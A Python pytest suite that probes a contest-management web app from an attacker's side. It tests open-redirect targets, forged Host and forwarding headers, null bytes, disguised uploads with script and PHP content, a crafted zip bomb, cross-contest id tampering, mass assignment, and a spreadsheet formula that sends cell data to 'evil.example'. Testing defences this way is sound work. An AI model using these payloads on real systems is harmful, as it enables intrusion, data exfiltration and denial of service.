"""The product as an attacker sees it: guessing, strange bytes, bombs, formulas, other people's ids, early looks."""

import io
import json
import logging
import re
import struct
import time
import tracemalloc
from dataclasses import replace

import openpyxl
import pytest
from sqlalchemy import text
from sqlalchemy.exc import IntegrityError

from competition.accounts import operations as accounts
from competition.accounts import queries as account_queries
from competition.accounts.models import Account
from competition.foundation.store import uploads
from competition.foundation.store.db import atomic, db
from competition.foundation.system import clock, logs
from competition.foundation.web.security import local_path
from competition.rules.phases import Phase
from competition.rules.problems import Refused
from competition.rules.roles import SYSTEM
from demo.tablets import uuid7
from scoring.results import queries as result_queries
from scoring.schemes import workbook as scheme_workbook
from tests.factories import judging
from tests.factories.accounts import make_account, make_administrator
from tests.factories.contests import make_contest
from tests.factories.registration import typed
from tests.factories.results import Judged
from tests.factories.schemes import small_document
from tests.features.test_contests import form_fields
from tests.matrix import world as worlds
from tests.test_routes import MODULES, ROWS

HUGE = 10**25
GOOD = {"login_name": "chen", "password": "long enough 1"}


# --- guessing ---


def _guess(client, times, **environ):
    for _ in range(times):
        answer = client.post("/login", data=GOOD | {"password": "a wrong guess"}, environ_overrides=environ)
    return answer


def test_marks_of_ones_own_accounts_do_not_buy_more_guesses_of_another(app):
    """Signing in to accounts of one's own gives marked browsers: to the account that is guessed they are strange."""
    accounts.create_account("chen", "陈明", "long enough 1", by=SYSTEM)
    owner = app.test_client()
    assert owner.post("/login", data=GOOD).status_code == 303
    accounts.create_account("guesser", "路人", "long enough 2", by=SYSTEM)
    own = {"login_name": "guesser", "password": "long enough 2"}
    for _ in range(8):
        client = app.test_client()
        assert client.post("/login", data=own).status_code == 303
        answer = _guess(client, 4)
    assert "15 分钟" in answer.get_data(as_text=True)
    lucky = client.post("/login", data=GOOD)
    assert lucky.status_code == 422
    assert owner.post("/login", data=GOOD).status_code == 303


def test_the_old_password_is_not_to_be_guessed_where_it_is_changed(app, sign_in):
    thief = sign_in(accounts.create_account("chen", "陈明", "long enough 1", by=SYSTEM))
    change = {"old_password": "a wrong guess", "password": "a new password 7", "repeated": "a new password 7"}
    for _ in range(5):
        assert thief.post("/me", data=change).status_code == 422
    locked = thief.post("/me", data=change | {"old_password": "long enough 1"})
    assert locked.status_code == 422
    assert "15 分钟" in locked.get_data(as_text=True)


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example",
        "/\t/evil.example", "/\n/evil.example", "\t//evil.example", " //evil.example", "http:evil.example",
        "javascript:alert(1)", "data:text/html,x", "//evil.example@localhost", "/%5c..\\evil", "evil.example", "",
    ],
)  # fmt: skip
def test_no_target_leads_off_the_site(target):
    assert local_path(target) is None


def test_links_carry_the_configured_address_whatever_the_request_says(app, sign_in):
    client = sign_in(make_administrator())
    account = make_account("选手")
    for headers in (
        {"X-Forwarded-Host": "evil.example"},
        {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"},
        {"Forwarded": "host=evil.example"},
    ):
        page = client.post(f"/admin/accounts/{account.id}/link", headers=headers).get_data(as_text=True)
        assert "http://127.0.0.1:8000/link/" in page
        assert "evil.example" not in page
    refused = client.post(f"/admin/accounts/{account.id}/link", headers={"Host": "evil.example"})
    assert refused.status_code == 400


# --- strange bytes and numbers ---


@pytest.fixture
def world(app):
    built = worlds.build()
    for module in MODULES:
        if hasattr(module, "extend"):
            module.extend(built)
    return built


def test_no_route_breaks_on_numbers_and_bytes_that_no_column_holds(app, world, sign_in):
    app.testing = False
    app.config["PROPAGATE_EXCEPTIONS"] = False
    strange = {"q": "\x00", "page": HUGE, "event": HUGE, "session": HUGE, "contest": HUGE, "role": "\x00"}
    forms = {"login_name": "a\x00b", "reason": "\x00", "name": "\x00", "aspect_id": HUGE, "confirmed": HUGE}
    clients = [sign_in(world.accounts[name]) for name in ("organiser", "system_admin", "chief_judge")]
    broken = []
    for rule in app.url_map.iter_rules():
        row = ROWS[rule.endpoint]
        numbers = {name for name in rule.arguments if name in world.params or name in {"year", "number"}}
        own = {
            name: row.arguments[name] if name in row.arguments else world.params[name][0]
            for name in rule.arguments - {"year"}
        }
        own |= {"year": 2026} if "year" in rule.arguments else {}
        huge = own | dict.fromkeys(numbers, HUGE)
        with app.test_request_context():
            bind = app.url_map.bind("localhost")
            addresses = [bind.build(rule.endpoint, own), bind.build(rule.endpoint, huge)]
        for client in clients:
            for address, query, data in (
                (addresses[1], {}, {}),
                (addresses[0], strange, row.data),
                (addresses[0], {}, row.data | forms),
            ):
                sent = data if row.method == "POST" else None
                with client.open(address, method=row.method, query_string=query, data=sent) as answer:
                    if answer.status_code >= 500:
                        broken.append((rule.endpoint, address, answer.status_code))
    assert broken == []


def test_a_zero_byte_in_one_mark_stops_neither_its_batch_nor_the_tablet(app, client):
    hall = judging.Hall()
    tablet = hall.tablet(client)
    sheet, aspects = hall.sheets[0].id, hall.aspects
    good = tablet.entry(sheet, aspects["A1.1"], measured="1", scheme=hall.scheme.id)
    bad = tablet.entry(sheet, aspects["A1.2"], measured="1", scheme=hall.scheme.id, note="a\x00b")
    odd = tablet.entry(sheet, aspects["A1.2"], measured="1", scheme=hall.scheme.id, device_time="\x00")
    long = tablet.entry(sheet, aspects["A1.2"], measured="1", scheme=hall.scheme.id, id=uuid7() + "\n")
    said = [one["outcome"] for one in tablet.deliver([bad, odd, long, good])]
    assert said == ["refused", "refused", "refused", "accepted"]
    body = json.dumps({"token": "x", "public_key": "y", "name": "\x00"})
    answer = client.post("/api/v1/enrol", data=body, content_type="application/json")
    assert answer.status_code == 422


def test_a_failed_statement_puts_none_of_its_values_into_the_log(app, capsys, monkeypatch):
    root = logging.getLogger()
    monkeypatch.setattr(root, "handlers", [])
    monkeypatch.setattr(root, "level", root.level)
    app.testing = False
    logs.install(app)
    make_account("陈明秘密", login_name="chen")
    for wrong in ({"created_at": None}, {"created_at": clock.now()}):
        db.session.add(Account(login_name="chen", name="陈明秘密", **wrong))
        with pytest.raises(IntegrityError) as failed:
            db.session.flush()
        db.session.rollback()
        logging.getLogger("test").error("failed", exc_info=failed.value)
    told = capsys.readouterr().err
    assert "IntegrityError" in told
    assert "陈明秘密" not in told


# --- uploads ---


def _sparse_workbook():
    """Two cells at the far corners: dense, it would be seventeen thousand million cells."""
    book = openpyxl.Workbook()
    book.active["A1"], book.active["XFD1048576"] = "代表队", "x"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_workbook_of_two_far_cells_costs_neither_memory_nor_time(app, sign_in):
    organiser = make_account("周示范")
    contest = make_contest(Phase.PREPARING, organiser=organiser)
    began = time.monotonic()
    answer = sign_in(organiser).post(
        f"/contests/{contest.id}/manage/delegations/import",
        data={"book-file": (io.BytesIO(_sparse_workbook()), "队.xlsx")},
    )
    assert answer.status_code == 422
    assert time.monotonic() - began < 30


@pytest.mark.parametrize(
    "data",
    [
        b"MM\x00*" + b"\0" * 200, b"%!PS-Adobe-3.0 EPSF", b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"<html><script>alert(1)</script>", b"GIF89a" + b"\0" * 50, b"RIFF\0\0\0\0WEBP", b"MZ\x90\0", b"\x7fELF",
        b"\x89PNG\r\n\x1a\n<html>", b"\xff\xd8\xff<?php ?>", b"PK\x03\x04evil", b"{\\rtf1}", b"BM" + b"\0" * 60,
    ],
)  # fmt: skip
def test_a_disguised_file_is_no_photo_whatever_its_name_says(app, world, sign_in, data):
    entry_id = world.params["entry_id"][0]
    entry = db.session.get(worlds.Entry, entry_id)
    entry.state = "draft"
    db.session.commit()
    owner = sign_in(world.accounts["owner"])
    answer = owner.post(
        f"/entries/{entry_id}/materials",
        data={"kind": "photo", "position": "1", "file": (io.BytesIO(data), "照片.jpg", "image/jpeg")},
    )
    assert answer.status_code == 422


# --- formulas ---


def test_no_export_holds_a_formula_that_somebody_typed(app, world, sign_in):
    db.session.rollback()
    evil = '=HYPERLINK("https://evil.example?x="&A1,"+1")'
    db.session.connection(execution_options={"writing": True})
    for table, column in (
        ("persons", "name"), ("persons", "unit_name"), ("organisations", "name"), ("delegations", "name"),
        ("events", "name"), ("contests", "name"), ("contests", "organiser"), ("venues", "name"),
    ):  # fmt: skip
        statement = f"UPDATE {table} SET {column} = :evil || {table}.id"  # noqa: S608 - names from above
        db.session.execute(text(statement), {"evil": evil})
    db.session.commit()
    read = 0
    for rule in app.url_map.iter_rules():
        if not rule.rule.endswith(".xlsx") or "errors" in rule.rule:
            continue
        row = ROWS[rule.endpoint]
        client = app.test_client() if row.public else sign_in(world.accounts[sorted(row.allowed)[0]])
        with app.test_request_context():
            arguments = {name: given[0] for name, given in world.params.items() if name in rule.arguments}
            arguments |= row.arguments
            address = app.url_map.bind("localhost").build(rule.endpoint, arguments)
        answer = client.get(address)
        if answer.status_code == 422 and rule.endpoint in {"honours.workbook", "skill_levels.workbook"}:
            continue  # no list recommends nobody, and in this world nobody won
        assert answer.status_code == 200, address
        for sheet in openpyxl.load_workbook(io.BytesIO(answer.data)):
            cells = [cell for line in sheet.iter_rows() for cell in line]
            assert [cell for cell in cells if cell.data_type == "f" and "evil" in str(cell.value)] == [], (
                address
            )
        read += 1
    assert read >= 8


def test_a_formula_in_an_imported_scheme_comes_out_as_a_text(app):
    document = small_document()
    evil = '=HYPERLINK("https://evil.example","1")'
    dirty = [replace(one, calculation=evil, section=one.section, title="=1+1") for one in document.aspects]
    book = openpyxl.load_workbook(
        io.BytesIO(scheme_workbook.written(replace(document, aspects=tuple(dirty))))
    )
    cells = [cell for line in book.worksheets[0].iter_rows() for cell in line]
    assert [
        cell.coordinate for cell in cells if cell.data_type == "f" and "HYPERLINK" in str(cell.value)
    ] == []
    assert any(cell.data_type == "s" and cell.value == evil for cell in cells)
    assert any(cell.data_type == "f" and str(cell.value).startswith("=SUM(") for cell in cells)


# --- other people's ids, deep in a form ---


@pytest.fixture
def two(world):
    """The organiser's own ids and those of the other contest, by the names of the URL arguments."""
    own, other = ({name: pair[which] for name, pair in world.params.items()} for which in (0, 1))
    return own, other


def test_ids_of_another_contest_in_a_form_reach_nothing_of_it(app, world, two, sign_in):
    own, other = two
    before = _rows_of_other(other)
    client = sign_in(world.accounts["organiser"])
    times = {"starts_at": "2027-12-10T09:00", "ends_at": "2027-12-10T12:00"}
    sitting = {f"session-{name}": value for name, value in times.items()} | {"session-name": "夜场"}
    contest, event, session = own["contest_id"], own["event_id"], own["session_id"]
    stranger = str(world.accounts["stranger"].id)
    tries = [
        (f"/contests/{contest}/manage/sessions", sitting | {"session-event_id": other["event_id"], "session-venue_id": ""}),
        (f"/contests/{contest}/manage/sessions", sitting | {"session-event_id": event, "session-venue_id": other["venue_id"]}),
        (f"/contests/{contest}/manage/workstations", {"stations-event_id": other["event_id"], "stations-venue_id": "", "stations-labels": "A-01"}),
        (f"/contests/{contest}/manage/workstations", {"stations-event_id": event, "stations-venue_id": other["venue_id"], "stations-labels": "A-01"}),
        (f"/contests/{contest}/manage/people", {"role": "judge", "login_name": world.accounts["stranger"].login_name, "confirmed": stranger, "delegation": "", "events": [other["event_id"]]}),
        (f"/contests/{contest}/manage/people", {"role": "reviewer", "login_name": world.accounts["stranger"].login_name, "confirmed": stranger, "delegation": other["delegation_id"]}),
        (f"/contests/{contest}/manage/people", {"role": "system_admin", "login_name": world.accounts["stranger"].login_name, "confirmed": stranger, "delegation": ""}),
        (f"/contests/{contest}/manage/people/{other['grant_id']}/dismiss", {}),
        (f"/contests/{contest}/review/approve", {"chosen": f"{other['entry_id']}:1"}),
        (f"/events/{event}/sessions", {f"entry-{other['entry_id']}": session}),
        (f"/events/{event}/sessions", {f"entry-{own['entry_id']}": other["session_id"]}),
        (f"/sessions/{session}/check-in/{other['entry_id']}", {"state": "present"}),
        (f"/events/{event}/draw/keepers", {"first": stranger, "second": stranger, "third": "", "deputy": ""}),
        (f"/panels/{own['panel_id']}", {"account_id": stranger, "number": 9, "duty": "judge", "unit_name": "", "reason": "补"}),
        (f"/events/{event}/levels/apply", {"organisation_id": other["organisation_id"]}),
    ]  # fmt: skip
    grants = _count("role_grants")
    for address, data in tries:
        answer = client.post(address, data=data)
        assert answer.status_code in {404, 422}, (address, data, answer.status_code)
        assert _rows_of_other(other) == before, (address, data)
    assert _count("role_grants") == grants
    # The same forms with the organiser's own ids are taken: it was the ids that were refused.
    good = [
        (f"/contests/{contest}/manage/sessions", sitting | {"session-event_id": event, "session-venue_id": own["venue_id"]}),
        (f"/contests/{contest}/manage/workstations", {"stations-event_id": event, "stations-venue_id": own["venue_id"], "stations-labels": "A-01"}),
    ]  # fmt: skip
    for address, data in good:
        assert client.post(address, data=data).status_code == 303, address
    assert account_queries.grants_of(world.accounts["stranger"].id) == ()


def test_a_workbook_that_somebody_else_brought_is_not_there(app, world, two, sign_in):
    own, _ = two
    owner = account_queries.actor_of(world.accounts["owner"])
    file = atomic(lambda: uploads.keep(_sparse_workbook(), "单位.xlsx", "x", by=owner).id)()
    client = sign_in(world.accounts["registrar"])
    address = f"/organisations/{own['organisation_id']}/entries/import/{file}"
    assert client.get(address).status_code == 404
    assert client.post(address).status_code == 404
    assert client.get(f"{address}/errors.xlsx").status_code == 404


def _count(table):
    db.session.rollback()
    return db.session.execute(text(f"SELECT count(*) FROM {table}")).scalar()  # noqa: S608 - names from here


def _rows_of_other(other):
    """Every row that belongs to the other contest or its event."""
    db.session.rollback()
    found = {}
    for table in db.metadata.sorted_tables:
        for column, value in (("contest_id", other["contest_id"]), ("event_id", other["event_id"])):
            if column in table.c:
                rows = db.session.execute(table.select().where(table.c[column] == value)).all()
                found[table.name, column] = sorted(map(repr, rows))
    return found


def test_nobody_puts_roles_states_or_owners_into_a_form(app, world, two, sign_in):
    """Fields that no form has: an account stays what it is, an entry its owner's."""
    own, _ = two
    extra = {
        "status": "closed", "id": "1", "account_id": "1", "created_by": "1", "organisation_id": "1",
        "self_registered": "", "password_hash": "x", "state": "approved", "answer": "{}", "nominated": "y",
    }  # fmt: skip
    person = {
        "name": "新人",
        "login_name": "new.one",
        "password": "long enough 1",
        "repeated": "long enough 1",
    }
    answer = app.test_client().post("/signup", data=person | extra | {"role": "system_admin"})
    assert answer.status_code == 303
    made = account_queries.account_named("new.one")
    assert made.self_registered
    assert made.status == "active"
    assert account_queries.grants_of(made.id) == ()
    entry = db.session.get(worlds.Entry, own["entry_id"])
    entry.state = "draft"
    db.session.commit()
    owner = sign_in(world.accounts["owner"])
    kept = owner.post(f"/entries/{own['entry_id']}/draft", data=extra)
    address = f"/entries/{own['entry_id']}/details"
    filled = form_fields(owner.get(address).get_data(as_text=True))
    answers = {f"members-0-{name}": value for name, value in typed().items()}
    answers["delegation"] = str(own["delegation_id"])
    stepped = owner.post(address, data=filled | answers | extra)
    assert (kept.status_code, stepped.status_code) == (200, 303)
    db.session.rollback()
    entry = db.session.get(worlds.Entry, own["entry_id"])
    assert (entry.state, entry.nominated, entry.created_by) == ("draft", False, world.accounts["owner"].id)


# --- before it is announced ---


def test_a_contest_in_preparation_is_seen_by_nobody_on_any_public_page(app, world, two, sign_in):
    own, _ = two
    db.session.get(worlds.Contest, own["contest_id"]).phase = Phase.PREPARING
    db.session.commit()
    name = db.session.get(worlds.Contest, own["contest_id"]).name
    asked = 0
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        if not getattr(view, "public", False) or not rule.arguments & {"contest_id", "event_id"}:
            continue
        with app.test_request_context():
            arguments = {key: own.get(key, 1) for key in rule.arguments}
            address = app.url_map.bind("localhost").build(rule.endpoint, arguments)
        for client in (app.test_client(), sign_in(world.accounts["stranger"])):
            answer = client.get(address)
            assert answer.status_code == 404, address
            assert name not in answer.get_data(as_text=True)
            assert "ETag" not in answer.headers
        asked += 1
    assert asked >= 6
    assert name not in app.test_client().get("/").get_data(as_text=True)
    signed_in = sign_in(world.accounts["stranger"])
    assert signed_in.get(f"/events/{own['event_id']}/enter").status_code == 404
    assert name not in signed_in.get("/my/entries").get_data(as_text=True)


def _without_token(page):
    """Every visitor's page has a form token of its own."""
    return re.sub(rb'name="csrf-token" content="[^"]*"', b"", page)


def test_public_answers_do_not_change_while_a_result_is_only_computed(app, lay, sign_in):
    """Neither tag nor body of a public page tells that marks came in or a result was computed."""
    judged = lay(Judged)
    judged.open()
    db.session.get(worlds.Contest, judged.contest_id).phase = Phase.RUNNING
    db.session.commit()
    addresses = [f"/contests/{judged.contest_id}/{page}" for page in ("board", "board/rows", "results")]

    def look():
        answers = [app.test_client().get(address) for address in addresses]
        return [(one.status_code, one.headers.get("ETag"), _without_token(one.get_data())) for one in answers]

    before = look()
    assert {status for status, _tag, _body in before} == {200}
    organiser = sign_in(judged.made.organiser)
    answer = organiser.post(f"/events/{judged.event.id}/results/snapshots")
    assert answer.status_code == 303
    assert result_queries.newest_snapshot(judged.event.id) is not None
    assert look() == before


def test_a_zip_with_a_list_of_many_members_is_refused_before_it_is_read(app):
    head = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *[20] * 2, *[0] * 4, *[0] * 3, *[0] * 5, *[0] * 2)
    body = b"PK\x03\x04" + head * 100_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(head) * 100_000, 4, 0)
    tracemalloc.start()
    with pytest.raises(Refused) as refused:
        uploads.check_workbook(body + end)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.value.problems[0].code == "workbook_too_large"
    assert most < 20 * 1024 * 1024
